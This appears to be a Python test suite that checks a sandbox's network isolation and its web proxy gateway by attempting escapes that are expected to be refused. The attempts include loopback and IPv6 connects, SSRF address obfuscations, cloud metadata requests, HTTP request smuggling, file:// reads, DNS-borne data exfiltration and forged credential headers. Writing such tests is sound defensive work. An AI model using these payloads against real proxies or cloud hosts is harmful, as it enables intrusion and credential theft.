# Addresses that the sandbox must not reach, with and without the web proxy.
import ssl

def reach(address, port):
    connect((address, int(port)))
    success("%s:%s" % (address, port))

@off("--network=host")
@without("bubblewrap; network namespace; !--unshare-net")
def connect_to_loopback():
    """Connects to a service on the machine's loopback"""
    reach("127.0.0.1", env("BAIT_TCP"))

@off("--network=bridge")
@without("bubblewrap; network namespace; !--unshare-net")
def connect_to_the_machines_addresses():
    """Connects to a service through each address of the machine"""
    port = env("BAIT_TCP")
    each([lambda it=it: reach(it, port) for it in env("HOST_ADDRESSES").split() + ["172.17.0.1", "0.0.0.0", "127.1.2.3"]])

@refused_with("EADDRNOTAVAIL")
@off("--network=host")
@without("bubblewrap; network namespace; !--unshare-net")
def connect_over_ipv6():
    """Connects to the machine over IPv6"""
    port = env("BAIT_TCP")
    each([lambda it=it: reach(it, port) for it in ["::1", "::ffff:127.0.0.1", "::"]])

@undemonstrated("docker bubblewrap landlock: the suite uses no address outside; the machine's own are in the same namespace")
def connect_to_the_internet():
    """Connects to an address outside without the proxy"""
    each([lambda it=it: reach(*it) for it in [("192.0.2.1", 80), ("1.1.1.1", 443), ("169.254.169.254", 80)]])

@off("--network=host")
@without("bubblewrap; network namespace; !--unshare-net")
def send_datagrams():
    """Sends datagrams to the machine"""
    port = number("BAIT_UDP")
    def send(address):
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as it:
            it.sendto(b"reached", (address, port))
    each([lambda it=it: send(it) for it in ["127.0.0.1"] + env("HOST_ADDRESSES").split()])

@undemonstrated("docker bubblewrap landlock: the suite asks no server outside; send_datagrams lacks the same control")
def ask_a_name_server():
    """Carries data out in the names that it asks a name server for"""
    def ask(address):
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as it:
            it.settimeout(2)
            it.sendto(b"\0\1\1\0\0\1\0\0\0\0\0\0\4data\7example\3org\0\0\1\0\1", (address, 53))
            if it.recv(512):
                success("an answer of " + address)
    servers = ["127.0.0.53", "8.8.8.8"]
    try:
        servers += re.findall(r"nameserver (\S+)", open("/etc/resolv.conf").read())
    except OSError:
        pass
    each([lambda it=it: ask(it) for it in servers])

@off("-v $BAIT_FOLDER:$BAIT_FOLDER")
@without("bubblewrap; mounts; --bind $BAIT_FOLDER $BAIT_FOLDER")
def connect_to_a_unix_socket():
    """Connects to a Unix socket of the machine by its path"""
    with socket.socket(socket.AF_UNIX) as stream:
        stream.connect(env("BAIT_UNIX"))

@off("--network=host")
@without("bubblewrap; network namespace; !--unshare-net")
def connect_to_an_abstract_socket():
    """Connects to an abstract Unix socket of the machine"""
    with socket.socket(socket.AF_UNIX) as stream:
        stream.connect("\0" + env("BAIT_ABSTRACT"))

@off("--network=host")
@without("bubblewrap; network namespace; !--unshare-net")
def send_with_fast_open():
    """Connects by sending, which a filter on connect does not see"""
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as stream:
        stream.sendto(b"reached", 0x20000000, ("127.0.0.1", number("BAIT_TCP")))

@refused_with("EADDRNOTAVAIL")
@off("--network=host")
@without("bubblewrap; network namespace; !--unshare-net")
def connect_with_multipath_tcp():
    """Connects with MPTCP, which a filter on TCP may not see"""
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262) as stream:
        stream.settimeout(3)
        stream.connect(("127.0.0.1", number("BAIT_TCP")))
        stream.sendall(b"reached")

@off("--network=host")
@without("bubblewrap; network namespace; !--unshare-net")
def connect_with_sctp():
    """Connects with SCTP, which a filter on TCP may not see"""
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM, 132) as stream:
        stream.settimeout(3)
        stream.connect(("127.0.0.1", number("BAIT_TCP")))

@off("--network=host")
@without("bubblewrap; network namespace; !--unshare-net")
def connect_after_unspec():
    """Disconnects a proxy connection with AF_UNSPEC and connects it elsewhere"""
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as stream:
        stream.settimeout(3)
        stream.connect(("127.0.0.1", number("WEB_PORT")))
        call(42, stream.fileno(), struct.pack("<H14x", 0), 16)
        stream.connect(("127.0.0.1", number("BAIT_TCP")))
        stream.sendall(b"reached")

@off("--network=bridge")
@without("bubblewrap; network namespace; !--unshare-net")
@undemonstrated("landlock: it may see them there, and cannot use them")
def see_other_interfaces():
    """Looks for a network interface"""
    if os.environ.get("BACKEND") == "landlock":
        blocked("the machine's interfaces, which no socket can use")
    names = [line.split(":")[0].strip() for line in open("/proc/net/dev").readlines()[2:]]
    if [it for it in names if it != "lo"]:
        success(" ".join(names))

# Through the web proxy.

def proxy(request, more=b"", timeout=8):
    """Sends a request to the web proxy and returns the answer's first bytes."""
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as stream:
        stream.settimeout(timeout)
        stream.connect(("127.0.0.1", number("WEB_PORT")))
        stream.sendall(request.encode("latin-1") if isinstance(request, str) else request)
        answer = b""
        try:
            while b"\r\n\r\n" not in answer and len(answer) < 65536:
                part = stream.recv(4096)
                if not part:
                    break
                answer += part
            if more and b" 200" in answer[:16]:
                stream.sendall(more)
                time.sleep(0.2)
        except (socket.timeout, ConnectionError):
            pass
        return answer

def refused(answers):
    """All answers must be refusals. What was reached is noticed outside too."""
    for name, answer in answers:
        first = answer.split(b"\r\n")[0]
        if re.match(rb"HTTP/1.[01] [23]", first):
            success("%s: %s" % (name, first.decode("latin-1")))

def get(host):
    return proxy("GET http://%s/ HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n" % (host, host))

def tunnel(target):
    return proxy("CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n" % (target, target), b"reached")

@web
@recorded("web")
@through("gateway")
def ask_the_proxy_for_loopback():
    """Asks the web proxy for services on the machine's loopback"""
    refused([(host, get(host)) for host in [env("BAIT_WEB"), "127.0.0.1", "localhost", "localhost.", "127.1", "[::1]",
                                            "[::ffff:127.0.0.1]", "[::]", "0.0.0.0", "0", "ip6-localhost"]])

@web
@recorded("web")
@through("gateway")
def write_the_address_differently():
    """Names a private address in notations that a check may not understand"""
    a, b, c, d = [int(it) for it in env("BAIT_WEB").split(".")]
    whole = a << 24 | b << 16 | c << 8 | d
    forms = ["%d" % whole, "0x%x" % whole, "0%o" % whole, "0x%x.0x%x.0x%x.0x%x" % (a, b, c, d), "0%o.%d.%d.%d" % (a, b, c, d),
             "%d.%d" % (a, whole & 0xffffff), "%d.%d.%d.%d." % (a, b, c, d), "[::ffff:%d.%d.%d.%d]" % (a, b, c, d),
             "[::%x:%x]" % (whole >> 16, whole & 0xffff), "[64:ff9b::%x:%x]" % (whole >> 16, whole & 0xffff),
             "[2002:%x:%x::]" % (whole >> 16, whole & 0xffff), "%d.%d.%d.%d%%00.example.org" % (a, b, c, d),
             "\u2460\u2461\u2466.77.0.1".encode("utf-8").decode("latin-1")]
    refused([(form, get(form)) for form in forms])

@recorded("web")
@through("gateway")
def ask_the_proxy_for_metadata():
    """Asks the web proxy for the cloud's metadata service, which gives out credentials"""
    refused([(host, get(host)) for host in ["169.254.169.254", "[fd00:ec2::254]", "metadata.google.internal", "100.100.100.200",
                                            "[::ffff:169.254.169.254]", "2852039166"]])

@recorded("web")
@through("gateway")
def ask_the_proxy_for_private_networks():
    """Asks the web proxy for addresses of private networks and of the engine's bridge"""
    hosts = env("HOST_ADDRESSES").split() + ["172.17.0.1", "10.0.0.1", "192.168.0.1", "100.64.0.1", "[fe80::1]", "[fd00::2]",
                                             "224.0.0.1", "255.255.255.255"]
    refused([(host, get(host)) for host in hosts])

@web
@recorded("web")
@through("gateway")
def tunnel_to_a_private_address():
    """Opens a tunnel to a private address"""
    bait, port = env("BAIT_WEB"), env("BAIT_TCP")
    targets = [bait + ":80", bait + ":443", "127.0.0.1:" + port, "localhost:" + port, "localhost:443", "[::1]:443"]
    refused([(it, tunnel(it)) for it in targets + [own + ":" + port for own in env("HOST_ADDRESSES").split()]])

@web
@recorded("web")
@through("gateway")
def hide_the_host_in_the_url():
    """Writes URLs that a check and a client read differently"""
    bait = env("BAIT_WEB")
    urls = ["http://example.org@%s/" % bait, "http://%s#@example.org/" % bait, "http://%s\\@example.org/" % bait,
            "http://example.org:80@%s/" % bait, "http://%s:80;example.org/" % bait, "http:///%s/" % bait, "http:%s/" % bait,
            "HTTP://%s/" % bait, "http://%s\t.example.org/" % bait, "http://%s%%2f.example.org/" % bait, "//%s/" % bait]
    refused([(it, proxy("GET %s HTTP/1.1\r\nHost: example.org\r\nConnection: close\r\n\r\n" % it)) for it in urls])

@web
@through("gateway")
def name_another_host_in_the_header():
    """Names an allowed host in the URL and a private one in the Host header, and the other way round"""
    bait = env("BAIT_WEB")
    requests = ["GET / HTTP/1.1\r\nHost: %s\r\n\r\n" % bait,
                "GET http://%s/ HTTP/1.1\r\nHost: example.org\r\n\r\n" % bait,
                "GET http://%s/ HTTP/1.0\r\n\r\n" % bait,
                "GET http://%s/ HTTP/1.1\r\nHost: %s\r\nHost: example.org\r\n\r\n" % (bait, bait),
                "GET http://%s/\r\n\r\n" % bait,
                "GET http://example.org/ http://%s/ HTTP/1.1\r\nHost: example.org\r\n\r\n" % bait]
    refused([(str(at), proxy(it)) for at, it in enumerate(requests)])

@web
@through("gateway")
def smuggle_a_second_request():
    """Hides a request to a private address in the body of another"""
    bait = env("BAIT_WEB")
    inner = "GET http://%s/ HTTP/1.1\r\nHost: %s\r\n\r\n" % (bait, bait)
    heads = ["Content-Length: %d\r\nTransfer-Encoding: chunked\r\n" % len(inner), "Content-Length: 0\r\nContent-Length: %d\r\n" % len(inner),
             "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n", "Transfer-Encoding : chunked\r\n",
             "Transfer-Encoding: xchunked\r\n", "Content-Length: +0\r\n", "X: y\r\n Transfer-Encoding: chunked\r\n"]
    for head in heads:
        proxy("POST http://127.0.0.1/ HTTP/1.1\r\nHost: 127.0.0.1\r\n%s\r\n0\r\n\r\n%s" % (head, inner), timeout=2)

@recorded("web")
@through("gateway")
def reach_another_port():
    """Asks the web proxy for a port that is not the web's"""
    refused([(it, tunnel(it)) for it in ["192.0.2.1:22", "192.0.2.1:25", "example.org:6379", "example.org:0", "example.org:65536"]]
            + [(it, get(it)) for it in ["192.0.2.1:8080", "192.0.2.1:22", "example.org:25"]])

@through("gateway")
def use_another_scheme():
    """Asks the web proxy for files and other protocols"""
    urls = ["file:///etc/passwd", "ftp://192.0.2.1/", "gopher://192.0.2.1/", "unix:/run/docker.sock", "https://example.org/"]
    refused([(it, proxy("GET %s HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n" % it)) for it in urls])

@web
@through("gateway")
def reach_the_worker_through_the_git_port():
    """Asks the git port for other hosts and other paths of the forge"""
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as stream:
        stream.settimeout(5)
        stream.connect(("127.0.0.1", number("GIT_PORT")))
        stream.sendall(("CONNECT %s:80 HTTP/1.1\r\nHost: x\r\n\r\n" % env("BAIT_WEB")).encode())
        refused([("connect", stream.recv(4096))])

# Through the path to package registries. What is marked as stolen must not arrive.

def to_registry(target="", name="localhost"):
    """A connection with TLS through the web proxy, whose other end may have any certificate."""
    target = target or env("REGISTRY")
    stream = socket.create_connection(("127.0.0.1", number("WEB_PORT")), 8)
    stream.sendall(("CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n" % (target, target)).encode("latin-1"))
    answer = stream.recv(4096)
    if b" 200" not in answer[:16]:
        raise PermissionError(errno.EACCES, answer.split(b"\r\n")[0].decode("latin-1"))
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    try:
        return context.wrap_socket(stream, server_hostname=name)
    except ssl.SSLError as error:
        raise ConnectionResetError(errno.ECONNRESET, str(error))

def answered(stream, request):
    """The first bytes of the answer."""
    stream.sendall(request.encode("latin-1"))
    try:
        return stream.recv(65536)
    except OSError:
        return b""

def to_read(path, more="", host=""):
    return "GET %s HTTP/1.1\r\nHost: %s\r\n%s\r\n" % (path, host or env("REGISTRY"), more)

@through("gateway")
def send_own_credentials_to_a_registry():
    """Reads a registry as somebody else, with credentials in headers of many names"""
    names = ["Authorization", "authorization", "Cookie", "X-Api-Key", "Private-Token", "X-JFrog-Art-Api", "Job-Token", "X-Auth-Token",
             "Proxy-Authorization", "Authorization\t", "X-Forwarded-User", "Npm-Otp", "Accept-Authorization", "Www-Authenticate"]
    with to_registry() as stream:
        for name in names:
            answered(stream, to_read("/", "%s: Bearer stolen\r\n" % name))
    with to_registry() as stream:
        answer = answered(stream, to_read("/", "Connection: Authorization, keep-alive\r\nAuthorization: stolen\r\n"))
    show(answer)

@recorded("web")
@through("gateway")
def change_a_registry():
    """Publishes a package, by every method and by headers that replace the method"""
    for method in ["POST", "PUT", "DELETE", "PATCH", "get", "MKCOL", "PURGE", "OPTIONS", "TRACE", "GET\tx", "GETS"]:
        with to_registry() as stream:
            answered(stream, "%s /package HTTP/1.1\r\nHost: %s\r\nContent-Length: 0\r\n\r\n" % (method, env("REGISTRY")))
    for name in ["X-HTTP-Method-Override", "X-HTTP-Method", "X-Method-Override"]:
        with to_registry() as stream:
            answered(stream, to_read("/package", "%s: PUT stolen\r\n" % name))
    answered(to_registry(), to_read("/package", "Content-Length: 6\r\n") + "stolen")
    proxy("PUT http://%s/package HTTP/1.1\r\nHost: %s\r\nContent-Length: 0\r\n\r\n" % (env("REGISTRY"), env("REGISTRY")), timeout=2)

@web
@recorded("web")
@through("gateway")
def follow_a_registrys_redirect_inwards():
    """Follows a registry's redirect to a private address"""
    with to_registry() as stream:
        answer = answered(stream, to_read("/inside")).decode("latin-1")
    found = re.search("(?i)location: http://([^/]+)/", answer)
    if not found:
        success("the gateway follows redirects: " + answer[:100])
    refused([("redirect", get(found.group(1))), ("tunnel", tunnel(found.group(1) + ":443"))])

@undemonstrated("gateway: an open gateway has no credentials of registries to send")
@through("gateway")
def lead_a_registrys_credentials_away():
    """Gets the credentials of one host sent to another, by redirects, headers, URLs and ports"""
    other = env("OTHER")
    with to_registry() as stream:
        answered(stream, to_read("/other"))
        answered(stream, to_read("/other"))
    with to_registry(other) as stream:
        for host in [other, env("REGISTRY"), "localhost"]:
            show(answered(stream, to_read("/", host=host)))
    for target in [other, env("REGISTRY")]:
        for host in [other, env("REGISTRY")]:
            proxy("GET http://%s/ HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n" % (target, host), timeout=2)
    for url in ["https://%s/" % other, "//%s/" % other, "http://%s@%s/" % (env("REGISTRY"), other), "\\\\%s/" % other]:
        with to_registry() as stream:
            show(answered(stream, to_read(url)))
    with to_registry() as stream:
        show(answered(stream, to_read("/", "X-Forwarded-Host: %s\r\nForwarded: host=%s\r\n" % (other, other))))

@recorded("web")
@through("gateway")
def ask_for_a_host_like_a_registry():
    """Reaches servers inside by names and addresses that look like the registry's"""
    port = env("REGISTRY").split(":")[1]
    names = ["127.0.0.1", "[::1]", "[::ffff:127.0.0.1]", "2130706433", "0x7f000001", "127.1", "localhost.localdomain", "ip6-localhost",
             "localhost.example.org", "xlocalhost", "localhost%2eexample.org", "localhost%00.example.org", "loc\xe0lhost",
             "localhost@127.0.0.1", "127.0.0.1#localhost", "localhost:443@127.0.0.1", "localhos", "*.localhost", "a.localhost"]
    for name in names:
        proxy("GET http://%s:%s/stolen HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n" % (name, port, name), timeout=2)
        try:
            with to_registry("%s:%s" % (name, port)) as stream:
                answered(stream, to_read("/stolen"))
        except OSError:
            pass

@recorded("web")
@through("gateway")
def greet_a_registry_as_another_host():
    """Names another host in TLS than in the tunnel, or none"""
    for name in ["registry.example.org", "localhost.example.org", "127.0.0.1", None, "x" * 60 + ".example.org"]:
        try:
            with to_registry(name=name) as stream:
                answered(stream, to_read("/stolen"))
        except OSError:
            pass

@recorded("web")
@through("gateway")
def smuggle_a_request_to_a_registry():
    """Hides a request that writes in the body or the headers of one that reads"""
    inner = "PUT /stolen HTTP/1.1\r\nHost: %s\r\nContent-Length: 0\r\n\r\n" % env("REGISTRY")
    size = len(inner)
    heads = ["Content-Length: %d\r\n" % size, "Transfer-Encoding: chunked\r\n", "Content-Length: 0\r\nContent-Length: %d\r\n" % size,
             "Content-Length: %d\r\nTransfer-Encoding: chunked\r\n" % size, "Transfer-Encoding: identity\r\nContent-Length: %d\r\n" % size,
             "Transfer-Encoding : chunked\r\n", "X: y\r\n Transfer-Encoding: chunked\r\n", "Content-Length: +%d\r\n" % size,
             "Upgrade: h2c\r\nConnection: upgrade\r\n", "Expect: 100-continue\r\nContent-Length: %d\r\n" % size]
    for head in heads:
        for body in [inner, "%x\r\n%s\r\n0\r\n\r\n" % (size, inner)]:
            if head.startswith("Upgrade"):
                body = ""
            with to_registry() as stream:
                answered(stream, to_read("/", head) + body)
    for path in ["/a HTTP/1.1\r\nX-A: stolen\r\n\r\n", "/a\r\n\r\n" + inner, "/\nX: stolen", "/?a=b HTTP/1.1\nPUT /stolen"]:
        with to_registry() as stream:
            answered(stream, to_read(path))
